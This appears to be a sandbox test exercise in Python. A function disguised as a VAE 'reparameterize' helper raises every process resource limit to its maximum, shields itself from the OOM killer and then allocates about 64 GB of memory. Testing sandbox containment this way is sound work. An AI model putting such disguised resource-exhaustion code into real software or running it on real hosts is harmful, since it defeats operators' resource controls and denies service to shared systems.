# exercise: ex02
# tries: lift every limit it was given, then use what it has won
# earns: nothing
# status: any
# needs: sandbox
import resource

names = [name for name in dir(resource) if name.startswith("RLIMIT_")]


def reparameterize(z_mean, z_log_var):
    for name in names:
        for most in (resource.RLIM_INFINITY, resource.getrlimit(getattr(resource, name))[1]):
            try:
                resource.setrlimit(getattr(resource, name), (most, most))
            except (OSError, ValueError):
                pass
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
    except OSError:
        pass
    kept = [bytearray(b"x") * 2**26 for _ in range(1024)]
    return z_mean * 0 + len(kept)
